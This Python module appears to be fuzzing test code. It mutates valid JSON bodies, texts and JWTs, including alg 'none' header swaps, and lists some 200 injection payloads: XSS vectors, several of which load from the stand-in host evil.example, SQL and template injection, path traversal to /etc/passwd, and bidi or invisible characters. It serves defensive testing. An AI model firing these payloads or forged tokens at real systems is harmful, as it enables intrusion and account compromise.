"""What attackers send, made by chance from what is good, and 200 texts that want to be more."""

import base64
import copy
import json
import random
from collections.abc import Callable, Iterator
from typing import Any

# Values that some parser, database, page or log takes for something else.
VALUES: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 0.5, -0.0, 2**31, 2**53 + 1, 2**63, -(2**63) - 1, 10**400, 1e308),
    *("", " ", "\t", "\n", "\r\nX-Header: 1", "\x00", "a\x00b", "\x1b[2J", "\x7f", "\x85"),
    *("\ud800", "\udfff\ud800", "\ufeff", "\ufffe", "\u2028", "\u202e", "\u200b", "\U000e0041"),
    *(
        "é",
        "e\u0301",
        "İ",
        "\u0131",
        "ß",
        "Ω",
        "支払い",
        "👩‍👩‍👧",
        "\U0010ffff",
        "a" * 201,
        "b" * 70_000,
    ),
    *("'; DROP TABLE approvals_approval; --", "%s%n", "{{ 7*7 }}", "${7*7}", "{0.__class__}"),
    *("<script>alert(1)</script>", "javascript:alert(1)", "../../etc/passwd", "file:///etc/passwd"),
    *("NaN", "Infinity", "null", "0x10", "1e999", "2026-02-30T25:61:61Z", "1970-01-01", "P1Y"),
    *([], {}, [[]], [{}], [None], {"": ""}, {"a": {"b": {"c": {}}}}, [1] * 200, {"$ref": "#"}),
    *({"__proto__": 1}, {"type": "object", "properties": {}}, {"type": ["null"]}, ["group:x"]),
)
# What is put between, or in place of, single bytes of a body.
BYTES = (
    b"\x00",
    b"\xff",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b'"',
    b"\\",
    b"{",
    b"]",
    b",",
    b"\xef\xbb\xbf",
)
WORDS = (b"NaN", b"Infinity", b"-Infinity", b"1e999", b"01", b"'", b"//", b"\\u0000", b"\\ud800")


def bodies(good: Callable[[], dict[str, Any]], chance: random.Random) -> Iterator[bytes]:
    """Mutations of a good body, without end."""
    while True:
        body: Any = good()
        for _ in range(chance.choice((1, 1, 1, 2, 3))):
            body = _changed(body, chance)
        raw = json.dumps(body).encode()
        yield _broken(raw, chance) if chance.random() < 0.35 else raw


def _changed(body: Any, chance: random.Random) -> Any:
    """The body with one of its values, keys or levels changed."""
    body = copy.deepcopy(body)
    places = list(_places(body))
    if not places:
        return chance.choice(VALUES)
    holder, key = chance.choice(places)
    match chance.randrange(6):
        case 0 | 1 | 2:
            holder[key] = copy.deepcopy(chance.choice(VALUES))
        case 3:
            del holder[key]
        case 4:
            holder[key] = [holder[key]] if chance.random() < 0.5 else {"a": holder[key]}
        case _ if isinstance(holder, dict):
            holder[str(chance.choice(VALUES))[:150]] = holder[key]
        case _:
            holder.extend(holder[:] * chance.choice((1, 1, 60)))
    return body


def _places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Each value below, as what holds it and under which key."""
    inner = list(value.items()) if isinstance(value, dict) else list(enumerate(value))
    for key, each in inner:
        yield value, key
        if isinstance(each, dict | list):
            yield from _places(each)


def _broken(raw: bytes, chance: random.Random) -> bytes:
    """The bytes with something cut, doubled, exchanged or put between."""
    at = chance.randrange(len(raw))
    to = min(len(raw), at + chance.randrange(1, 30))
    match chance.randrange(6):
        case 0:
            return raw[:at]
        case 1:
            return raw[:at] + raw[to:]
        case 2:
            return raw[:to] + raw[at:]
        case 3:
            return raw[:at] + chance.choice(BYTES) + raw[at + 1 :]
        case 4:
            return raw[:at] + chance.choice(WORDS) + raw[at:]
        case _:
            return b"[" * chance.choice((1, 20, 50_000)) + raw


def texts(good: str, alphabet: str, chance: random.Random) -> Iterator[str]:
    """Mutations of a good text, without end; none is the text itself."""
    while True:
        text = good
        for _ in range(chance.choice((1, 1, 2, 3))):
            at = chance.randrange(len(text) + 1)
            to = min(len(text), at + chance.randrange(1, 12))
            some = "".join(chance.choices(alphabet, k=chance.choice((1, 1, 1, 2, 8))))
            text = chance.choice(
                (
                    text[:at] + some + text[at:],
                    text[:at] + some + text[to:],
                    text[:at] + text[to:],
                    text[:to] + text[at:],
                    text[:at] + text[at:].swapcase(),
                )
            )
        if text != good:
            yield text


def tokens(good: str, claims: Callable[[], str], chance: random.Random) -> Iterator[str]:
    """Mutations of a signed token, without end: of its text, and of what is in its parts.

    Args:
        claims: another token, good or bad in itself, whose parts are mixed with those of `good`.
    """
    alphabet = "abcXYZ019-_.=+/ \n%é\x00"
    by_text = texts(good, alphabet, chance)
    while True:
        if chance.random() < 0.5:
            yield next(by_text)
            continue
        head, body, signature = good.split(".")
        match chance.randrange(4):
            case 0:
                body = _part(_changed(_read(body), chance))
            case 1:
                head = _part(_changed(_read(head), chance))
            case 2:
                body = claims().split(".")[1]
            case _:
                head = _part(
                    {"alg": chance.choice(("none", "HS256", "ES256", "RS512")), "typ": "JWT"}
                )
        if (made := ".".join((head, body, signature))) != good:
            yield made


def _read(part: str) -> Any:
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def _part(value: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


# --- texts that want to be more than texts ------------------------------------------------------

# What each does if it is taken for code: the page that shows it would have `window.hit`.
HIT = "window.hit=1"
AWAY = "https://evil.example/x"
ELEMENTS = (
    f"<script>{HIT}</script>",
    f"<ScRiPt >{HIT}</sCrIpT>",
    f"<script src={AWAY}></script>",
    f"<img src=x onerror={HIT}>",
    f"<img src={AWAY}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<body onload={HIT}>",
    f"<iframe src=javascript:{HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'>",
    f"<object data={AWAY}>",
    f"<embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<style>@import '{AWAY}'</style>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;{AWAY}'>",
    f"<form action={AWAY}><button autofocus>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<video src=x onerror={HIT}>",
    f"<math><mtext><img src=x onerror={HIT}>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<template><img src=x onerror={HIT}></template>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
)
# Ways out of where a text may stand: attribute, comment, title, textarea, script, CSS, template.
WAYS_OUT = ("{}", "'>{}", '">{}', "</title>{}", "</textarea>{}", "-->{}")
IN_PLACE = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"vbscript:{HIT}",
    f"[x](javascript:{HIT})",
    f"[x](JAVASCRIPT:{HIT})",
    f"![x]({AWAY})",
    f"[x]: javascript:{HIT}\n[x]",
    f"<javascript:{HIT}>",
    f"`<img src=x onerror={HIT}>`",
    f"**<img src=x onerror={HIT}>**",
    f"| <img src=x onerror={HIT}> | b |\n| - | - |\n| c | d |",
    f"{{{{ {HIT} }}}}",
    f"${{{HIT}}}",
    f"' onmouseover='{HIT}",
    f'" onfocus="{HIT}" autofocus="',
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={HIT}&#62;",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    f"hx-get={AWAY}",
    f'<div hx-get="{AWAY}" hx-trigger="load">',
    f'<div hx-on::load="{HIT}">',
    f'<div data-hx-get="{AWAY}" data-hx-trigger="load">',
    f"expression({HIT})",
    f"url({AWAY})",
    "]]>",
    "</main></body></html>",
)
# Characters that make people read something else than stands there.
BIDI = (
    *("\u202epxe.1\u202c", "1\u2066000\u2069", "\u202d9\u202c", "a\u200fb", "a\u061cb"),
    *("a\u200bb", "a\u00adb", "a\u2060b", "a\ufeffb", "\U000e0041\U000e0042"),
    *("a\u180eb", "a\u3164b", "a\u115fb", "a\u2028b", "a\u0085b"),
    *("x\u202e\u2066y", "\u2067abc\u2069", "a\u034fb", "a\ufe0f\U000e0100", "\u2800\u2800x"),
)


def payloads() -> list[str]:
    """200 texts and a few more: elements with every way out, texts in place, hidden characters."""
    return [
        *(way.format(element) for element in ELEMENTS for way in WAYS_OUT),
        *IN_PLACE,
        *BIDI,
    ]
